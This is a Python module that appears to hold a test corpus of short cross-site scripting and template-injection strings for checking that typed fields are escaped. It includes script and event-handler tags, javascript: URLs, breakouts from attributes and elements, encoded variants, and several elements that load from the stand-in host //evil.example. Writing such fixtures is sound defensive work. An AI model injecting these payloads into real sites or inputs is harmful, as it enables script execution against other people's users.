"""
Strings that would run, ask or become an element where somebody forgot to escape.

Shapes that are well known, one each, short enough for every field that people type into: what each
would do is `alert`, ask `//evil.example`, or make an element.
"""

from __future__ import annotations

MOST = 50  # characters: a department's name has no more
BACKSLASH = "\\"

ELEMENTS = [
    "<script>alert(7)</script>",
    "<ScRiPt>alert(7)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<script/x>alert(7)</script/x>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<script\n>alert(7)</script\n>",
    "<<script>alert(7)//<</script>",
    "<img src=x onerror=alert(7)>",
    "<img src=//evil.example/a.png>",
    "<img/src=x/onerror=alert(7)>",
    "<img src=`x`onerror=alert(7)>",
    "<img src=x onerror\n=alert(7)>",
    "<image src=x onerror=alert(7)>",
    "<svg onload=alert(7)>",
    "<svg/onload=alert(7)//",
    "<svg><script>alert(7)</script></svg>",
    "<svg><a xlink:href=javascript:alert(7)>x</a></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x>",
    "<math><a href=javascript:alert(7)>x</a></math>",
    "<iframe src=javascript:alert(7)></iframe>",
    "<iframe srcdoc='<script>alert(7)</script>'>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video src=x onerror=alert(7)></video>",
    "<audio src=x onerror=alert(7)></audio>",
    "<video><source onerror=alert(7)></video>",
    "<body onload=alert(7)>",
    "<input autofocus onfocus=alert(7)>",
    "<select autofocus onfocus=alert(7)>",
    "<textarea autofocus onfocus=alert(7)>",
    "<details open ontoggle=alert(7)>",
    "<marquee onstart=alert(7)>x</marquee>",
    "<a href=javascript:alert(7) autofocus>x</a>",
    "<form action=//evil.example><button>x</button>",
    "<button formaction=javascript:alert(7)>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=background:url(//evil.example)>x</p>",
    "<template><script>alert(7)</script></template>",
    "<x contenteditable onblur=alert(7)>x</x>",
]
WAYS_OUT = [
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(7)</script>",
    "</option></select><svg onload=alert(7)>",
    "</style><script>alert(7)</script>",
    "--><script>alert(7)</script><!--",
    "]]><script>alert(7)</script>",
    '"><script>alert(7)</script>',
    "'><img src=x onerror=alert(7)>",
    '" autofocus onfocus=alert(7) x="',
    "' autofocus onfocus=alert(7) x='",
    "` onmouseover=alert(7) x=`",
    '";alert(7);//',
    "';alert(7);//",
    BACKSLASH + '";alert(7);//',
    "</script><script>alert(7)</script>",
]
OTHER_WRITINGS = [
    "javascript:alert(7)",
    "JaVaScRiPt:alert(7)",
    "java\tscript:alert(7)",
    "data:text/html,<script>alert(7)</script>",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&#60;script&#62;alert(7)&#60;/script&#62;",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    BACKSLASH + "u003cscript" + BACKSLASH + "u003ealert(7)",
    "+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
    "＜script＞alert(7)＜/script＞",
    "¼script¾alert(7)¼/script¾",
    "{{7*7}}{% include 'x' %}",
    "${alert(7)}#{alert(7)}",
    "<%= alert(7) %>",
    "\u202e<script>alert(7)</script>",
]
CORPUS = [*ELEMENTS, *WAYS_OUT, *OTHER_WRITINGS]
